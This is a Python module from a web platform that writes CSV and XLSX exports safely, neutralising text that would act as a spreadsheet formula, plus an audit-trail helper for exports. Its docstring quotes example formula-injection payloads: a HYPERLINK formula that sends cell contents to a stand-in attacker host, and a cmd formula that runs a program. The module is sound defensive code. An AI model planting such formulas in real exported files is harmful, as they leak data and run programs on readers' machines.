"""The one way the platform writes spreadsheet cells: text never becomes a live formula.

Names and titles come from people (an objective's title, a body's name, a person imported from
an HR file). A text starting with `=`, `+`, `-` or `@` would be a formula when the file is
opened in Excel or LibreOffice (`=HYPERLINK("https://evil.example/?"&A1, "Apri")` sends the
neighbouring cells away, `=cmd|...` runs a program), so every XLSX and CSV the platform writes
goes through this module:

- CSV (`csv_writer`, `csv_dict_writer`): such a text is prefixed with an apostrophe, which the
  spreadsheet shows as text (OWASP's advice); a plain number such as "-3" or "-0,5" is left as is.
- XLSX (`append_row`): such a text is stored as a text cell, never as a formula, so the reader
  sees it exactly as it was written.

The XLSX kit (`workbook`, `add_sheet`, `xlsx_bytes`, `xlsx_response`, `xlsx_of`) builds every
workbook the same way: a sheet from headers (the caller passes them through gettext) and rows,
each row through `append_row`, optional column widths and a bold header row.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from io import BytesIO
from typing import Any

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?\d+([.,]\d+)*%?")


def is_formula_like(value: object) -> bool:
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not PLAIN_NUMBER.fullmatch(value)
    )


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: a formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class _SafeWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, writer: csv.DictWriter[str]) -> None:
        self._writer = writer

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **kwargs: Any) -> _SafeWriter:
    """`csv.writer(out, **kwargs)` whose rows are neutralised."""
    return _SafeWriter(csv.writer(out, **kwargs))


def csv_dict_writer(out: Any, fieldnames: list[str], **kwargs: Any) -> _SafeDictWriter:
    """`csv.DictWriter(out, fieldnames, **kwargs)` whose rows are neutralised."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames=fieldnames, **kwargs))


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` on an openpyxl worksheet, with every formula-like text kept as a
    text cell (openpyxl would otherwise store a text starting with `=` as a formula)."""
    values = list(values)
    sheet.append(values)
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            sheet.cell(row=sheet.max_row, column=column).data_type = "s"


def workbook() -> Any:
    """An openpyxl workbook with no sheet yet: every sheet comes from `add_sheet`."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    return book


def add_sheet(
    book: Any,
    title: str,
    headers: Iterable[Any] | None,
    rows: Iterable[Iterable[Any]] = (),
    *,
    widths: Mapping[str | int, float] | None = None,
    bold: bool = False,
) -> Any:
    """A new sheet named `title` (cut to Excel's 31 characters) with the header row (None for
    none) and the rows, every one formula-safe; `widths` maps a column (letter or 1-based
    number) to its width; `bold` sets the header row in bold. Returns the sheet, for a caller
    that styles more."""
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    sheet = book.create_sheet(str(title)[:31])
    if headers is not None:
        append_row(sheet, [str(h) if h is not None else h for h in headers])
        if bold:
            for cell in sheet[1]:
                cell.font = Font(bold=True)
    for row in rows:
        append_row(sheet, row)
    for column, width in (widths or {}).items():
        letter = get_column_letter(column) if isinstance(column, int) else column
        sheet.column_dimensions[letter].width = width
    return sheet


def xlsx_bytes(book: Any) -> bytes:
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_of(
    title: str,
    headers: Iterable[Any] | None,
    rows: Iterable[Iterable[Any]],
    **kwargs: Any,
) -> bytes:
    """A one-sheet workbook as bytes (see `add_sheet` for the arguments)."""
    book = workbook()
    add_sheet(book, title, headers, rows, **kwargs)
    return xlsx_bytes(book)


def xlsx_response(content: Any, filename: str) -> Any:
    """The workbook (or its bytes) as a download named `filename`."""
    from django.http import HttpResponse

    body = content if isinstance(content, bytes) else xlsx_bytes(content)
    response = HttpResponse(body, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def record_export(
    request: Any, body: Any, what: str, *, obj: Any = None, person: Any = None
) -> None:
    """A file of named people's data leaves the platform: the trail says who took what, by
    which route and with which filters (and, for one person's document, whose it is). `what`
    is recorded in English, marked with `gettext_noop` where it is written: the trail shows it
    in the reader's language (audit/selectors.py `field_changes`)."""
    from agilepa.audit import services as audit

    match = request.resolver_match
    if match is None:
        route = request.path
    elif request.path.startswith("/api/"):
        route = f"{request.method} /{match.route}"
    else:
        route = match.view_name
    filters = {key: request.GET.getlist(key) for key in sorted(request.GET)}
    audit.record(
        "export",
        body=body,
        obj=obj,
        object_type="" if obj is not None else route[:80],
        person=person,
        changes={"route": route, "what": what, "filters": filters},
    )
